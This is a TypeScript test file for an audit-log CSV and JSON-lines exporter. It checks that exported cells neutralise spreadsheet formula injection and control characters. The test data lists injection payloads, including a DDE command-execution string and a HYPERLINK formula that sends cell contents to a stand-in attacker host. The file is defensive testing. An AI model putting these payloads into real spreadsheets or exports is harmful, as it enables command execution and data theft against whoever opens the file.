import { describe, expect, it } from 'vitest';
import type { SealedEntry } from '../reading/entry-row.ts';
import { csvCell, csvHeader, csvLines } from './csv.ts';
import { jsonLines } from './json-lines.ts';

const entry = (userAgent: string): SealedEntry => ({
  id: '11111111-1111-4111-8111-111111111111',
  sequence: 7,
  occurredAt: '2026-03-01T08:00:00.000Z',
  actor: { id: null, email: 'uma@example.test', displayName: 'Patel, "Uma"' },
  action: 'signed_out',
  resourceType: null,
  resourceId: null,
  outcome: 'success',
  details: { why: 'x' },
  ipAddress: '192.0.2.1',
  userAgent,
  requestId: 'request-1',
  hash: 'ab',
});

const formulas = [
  '=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("https://evil.example.test?"&A1,"click")',
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
];

describe('a cell of the CSV', () => {
  it.each(formulas)('LOG-02: holds %j as text', (formula) => {
    expect(csvCell(formula)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    expect(csvCell(formula)).toContain(formula.trim().slice(1, 5));
  });

  it.each([
    ['uma', 'uma'],
    ['a=b', 'a=b'],
    [7, '7'],
    [null, ''],
    [undefined, ''],
    ['\u001b[2J\u009b\u2028', '\\u001b[2J\\u009b\\u2028'],
  ])('%j is %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe('an exported entry', () => {
  it.each([...formulas, 'a\r\nb', 'a,b;"c"', '\u0085\u2029', '\0'])(
    'LOG-02: with %j in it is one line',
    (odd) => {
      const csv = csvLines([entry(odd), entry('x')]);
      expect(csv.match(/\r\n/g)).toHaveLength(2);
      expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\0-\x1f\x7f-\x9f\u2028\u2029]/); // eslint-disable-line no-control-regex
      const json = jsonLines([entry(odd)]);
      expect(json.slice(0, -1)).not.toMatch(/[\0-\x1f\x7f-\x9f\u2028\u2029]/); // eslint-disable-line no-control-regex
      expect(JSON.parse(json)).toEqual(entry(odd));
    },
  );

  it('has every field in a column, in quotes', () => {
    expect(csvHeader()).toBe(
      '"sequence","occurredAt","actorId","actorEmail","actorDisplayName","action","outcome","resourceType","resourceId","details","ipAddress","userAgent","requestId","id","hash"\r\n',
    );
    expect(csvLines([entry('Browser/1')])).toBe(
      '"7","2026-03-01T08:00:00.000Z","","uma@example.test","Patel, ""Uma""","signed_out","success","","","{""why"":""x""}","192.0.2.1","Browser/1","request-1","11111111-1111-4111-8111-111111111111","ab"\r\n',
    );
  });
});
